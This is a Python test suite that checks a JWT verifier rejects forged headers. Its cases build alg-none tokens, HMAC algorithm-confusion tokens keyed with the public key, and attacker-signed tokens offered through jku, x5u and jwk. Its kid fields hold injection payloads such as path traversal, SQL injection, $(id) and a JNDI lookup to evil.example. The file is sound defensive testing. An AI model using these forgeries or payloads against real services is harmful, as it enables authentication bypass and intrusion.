"""Headers: only RS256 and a known `kid` are accepted, and no other parameter influences the signature check."""

import hashlib
import hmac
import json
from collections.abc import Callable
from functools import cache
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa

from tests.support.attacks import Case
from tests.support.forge import GONE, Forge, base64url, encode

SHA1, SHA256, SHA384, SHA512 = hashes.SHA1(), hashes.SHA256(), hashes.SHA384(), hashes.SHA512()
EVIL = "https://evil.example/keys"


@cache
def attackers_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def jwk(key: rsa.RSAPrivateKey, **members: Any) -> dict[str, Any]:
    numbers = key.public_key().public_numbers()
    return {"kty": "RSA", "n": base64url(numbers.n.to_bytes(256)), "e": "AQAB", "use": "sig", **members}


def with_header(**members: Any) -> Callable[[Forge], str]:
    """Return a function that creates a properly signed token with these header parameters changed."""
    return lambda forge: forge.sign(forge.claims(), forge.header(**members))


def signed(alg: str, sign: Callable[[Forge, bytes], bytes]) -> Callable[[Forge], str]:
    """Return a function that creates a token with valid claims, this `alg` and a signature from `sign`."""

    def make(forge: Forge) -> str:
        text = f"{encode(forge.header(alg=alg))}.{encode(forge.claims())}"
        return f"{text}.{base64url(sign(forge, text.encode()))}"

    return make


def rsa_with(scheme: Any, hash_: hashes.HashAlgorithm) -> Callable[[Forge, bytes], bytes]:
    return lambda forge, text: forge.key.sign(text, scheme, hash_)


def pss(hash_: hashes.HashAlgorithm) -> padding.PSS:
    return padding.PSS(padding.MGF1(hash_), hash_.digest_size)


def hmac_with(public: Callable[[Forge], bytes], digest: str = "sha256") -> Callable[[Forge, bytes], bytes]:
    return lambda forge, text: hmac.new(public(forge), text, getattr(hashlib, digest)).digest()


def public_key(form: str, encoding: str) -> Callable[[Forge], bytes]:
    """Return a function that serializes the tenant's public key."""
    return lambda forge: forge.key.public_key().public_bytes(
        getattr(serialization.Encoding, encoding), getattr(serialization.PublicFormat, form)
    )


def by_attacker(**members: Any) -> Callable[[Forge], str]:
    """Return a function that creates a token signed with the attacker's key, with these header parameters."""
    return lambda forge: forge.sign(forge.claims(), forge.header(**members), key=attackers_key())


PEM, DER = public_key("SubjectPublicKeyInfo", "PEM"), public_key("SubjectPublicKeyInfo", "DER")

ALG: list[Case] = [
    *(
        (f"alg: {alg!r}", "401 unsupported_token", with_header(alg=alg))
        for alg in ("none", "None", "NONE", "nOnE", "", "rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS-256")
    ),
    *(
        (f"alg of another type: {alg!r}", "401 unsupported_token", with_header(alg=alg))
        for alg in (["RS256"], {"RS256": True}, None, True, 256)
    ),
    ("no alg", "401 unsupported_token", with_header(alg=GONE)),
    ("ALG instead of alg", "401 unsupported_token", with_header(alg=GONE, ALG="RS256")),
    ("alg none with an empty signature", "401 malformed_token",
     lambda f: with_header(alg="none")(f).rpartition(".")[0] + "."),
    ("HS256 keyed with the public key in PEM", "401 unsupported_token", signed("HS256", hmac_with(PEM))),
    ("HS256 keyed with the public key in PEM without the last line break", "401 unsupported_token",
     signed("HS256", hmac_with(lambda f: PEM(f).strip()))),
    ("HS256 keyed with the public key in PKCS #1", "401 unsupported_token",
     signed("HS256", hmac_with(public_key("PKCS1", "PEM")))),
    ("HS256 keyed with the public key in DER", "401 unsupported_token", signed("HS256", hmac_with(DER))),
    (
        "HS256 keyed with the published JWK",
        "401 unsupported_token",
        signed("HS256", hmac_with(lambda f: json.dumps(f.azure.keys.current.jwk()).encode())),
    ),
    (
        "HS256 keyed with the modulus",
        "401 unsupported_token",
        signed("HS256", hmac_with(lambda f: f.azure.keys.current.jwk()["n"].encode())),
    ),
    (
        "HS256 keyed with the published certificate",
        "401 unsupported_token",
        signed("HS256", hmac_with(lambda f: f.azure.keys.current.certificate)),
    ),
    ("HS256 keyed with an empty secret", "401 unsupported_token", signed("HS256", hmac_with(lambda f: b""))),
    ("HS384 keyed with the public key", "401 unsupported_token", signed("HS384", hmac_with(PEM, "sha384"))),
    ("HS512 keyed with the public key", "401 unsupported_token", signed("HS512", hmac_with(PEM, "sha512"))),
    ("alg RS256 with an HMAC", "401 bad_signature", signed("RS256", hmac_with(PEM))),
    ("PS256 with the tenant's key", "401 unsupported_token", signed("PS256", rsa_with(pss(SHA256), SHA256))),
    ("PS384 with the tenant's key", "401 unsupported_token", signed("PS384", rsa_with(pss(SHA384), SHA384))),
    ("RS384 with the tenant's key", "401 unsupported_token", signed("RS384", rsa_with(padding.PKCS1v15(), SHA384))),
    ("RS512 with the tenant's key", "401 unsupported_token", signed("RS512", rsa_with(padding.PKCS1v15(), SHA512))),
    ("alg RS256 with a PS256 signature", "401 bad_signature", signed("RS256", rsa_with(pss(SHA256), SHA256))),
    ("alg RS256 with an RS512 signature", "401 bad_signature", signed("RS256", rsa_with(padding.PKCS1v15(), SHA512))),
    ("alg RS256 with a SHA-1 signature", "401 bad_signature", signed("RS256", rsa_with(padding.PKCS1v15(), SHA1))),
    (
        "ES256 with the attacker's key",
        "401 unsupported_token",
        signed("ES256", lambda f, text: ec.generate_private_key(ec.SECP256R1()).sign(text, ec.ECDSA(SHA256))),
    ),
    ("EdDSA with the attacker's key", "401 unsupported_token",
     signed("EdDSA", lambda f, text: ed25519.Ed25519PrivateKey.generate().sign(text))),
]  # fmt: skip

MEMBERS: list[Case] = [
    ("no typ (RFC 7519 section 5.1)", "200 application", with_header(typ=GONE)),
    ("lowercase typ", "200 application", with_header(typ="jwt")),
    ("unknown parameters", "200 application", with_header(x5t="abc", nonce="n", foo={"a": [1]})),
    ("crit: an unknown extension (RFC 7515 4.1.11)", "401 unsupported_token", with_header(crit=["x"], x=1)),
    ("crit: a claim's name", "401 unsupported_token", with_header(crit=["exp"], exp=1)),
    ("crit: empty", "401 unsupported_token", with_header(crit=[])),
    ("crit: null", "401 unsupported_token", with_header(crit=None)),
    ("b64 with crit (RFC 7797)", "401 unsupported_token", with_header(crit=["b64"], b64=False)),
    ("b64 without crit", "401 unsupported_token", with_header(b64=False)),
    ("b64 true, the default", "401 unsupported_token", with_header(b64=True)),
    ("cty: a nested token (RFC 7519 5.2)", "401 unsupported_token", with_header(cty="JWT")),
    ("zip: compressed", "401 unsupported_token", with_header(zip="DEF")),
    ("enc: encrypted", "401 unsupported_token", with_header(enc="A256GCM")),
    *(
        (f"unsupported typ: {typ!r}", "401 unsupported_token", with_header(typ=typ))
        for typ in ("at+jwt", "id_token+jwt", "dpop+jwt", "secevent+jwt", "JWE", "JOSE", "JWT ", "", None, 1, ["JWT"])
    ),
]

KID: list[Case] = [
    ("no kid", "401 malformed_token", with_header(kid=GONE)),
    ("x5t instead of kid", "401 malformed_token", lambda f: with_header(kid=GONE, x5t=f.kid)(f)),
    *(
        (f"invalid kid: {kid!r}", "401 malformed_token", with_header(kid=kid))
        for kid in ("", None, True, 0, 1.5, ["a"], {"a": "b"})
    ),
    ("kid of 257 characters", "401 malformed_token", with_header(kid="k" * 257)),
    ("kid of 256 characters", "401 unknown_key", with_header(kid="k" * 256)),
    *(
        (f"unknown kid: {kid!r}", "401 unknown_key", with_header(kid=kid))
        for kid in (
            " ",
            "../../../../dev/null",
            "/proc/self/environ",
            "C:\\Windows\\win.ini",
            "' OR '1'='1",
            "' UNION SELECT 'key';--",
            "$(id)",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "%00",
            "key\0",
            "a\r\nX-Injected: 1",
            EVIL,
            "keys",
            "__class__",
            "\u202e",
            "ключ",
        )
    ),
    ("kid with swapped case", "401 unknown_key", lambda f: with_header(kid=f.kid.swapcase())(f)),
    ("kid with a trailing space", "401 unknown_key", lambda f: with_header(kid=f.kid + " ")(f)),
    ("kid without its last character", "401 unknown_key", lambda f: with_header(kid=f.kid[:-1])(f)),
]

OFFERED_KEYS: list[Case] = [
    ("jku, x5u and jwk are ignored in a valid token", "200 application", with_header(jku=EVIL, x5u=EVIL, jwk={})),
    ("jku with the attacker's kid", "401 unknown_key", by_attacker(jku=EVIL, kid="evil")),
    ("jku with the tenant's kid", "401 bad_signature", by_attacker(jku=EVIL)),
    ("jku without kid", "401 malformed_token", by_attacker(jku=EVIL, kid=GONE)),
    ("x5u with the tenant's kid", "401 bad_signature", by_attacker(x5u=EVIL)),
    ("x5u with the attacker's kid", "401 unknown_key", by_attacker(x5u=EVIL, kid="evil")),
    ("jwk with the tenant's kid", "401 bad_signature", lambda f: by_attacker(jwk=jwk(attackers_key(), kid=f.kid))(f)),
    ("jwk with the attacker's kid", "401 unknown_key", by_attacker(jwk=jwk(attackers_key()), kid="evil")),
    ("jwk without kid", "401 malformed_token", by_attacker(jwk=jwk(attackers_key()), kid=GONE)),
    ("a JWK as the kid", "401 malformed_token", by_attacker(kid=jwk(attackers_key()))),
    ("an invalid x5c with the tenant's kid", "401 bad_signature", by_attacker(x5c=["MIIB"])),
    ("the tenant's x5c with the tenant's kid", "401 bad_signature",
     lambda f: by_attacker(x5c=f.azure.keys.current.jwk()["x5c"])(f)),
    ("the tenant's x5t with the attacker's kid", "401 unknown_key", lambda f: by_attacker(x5t=f.kid, kid="evil")(f)),
]  # fmt: skip
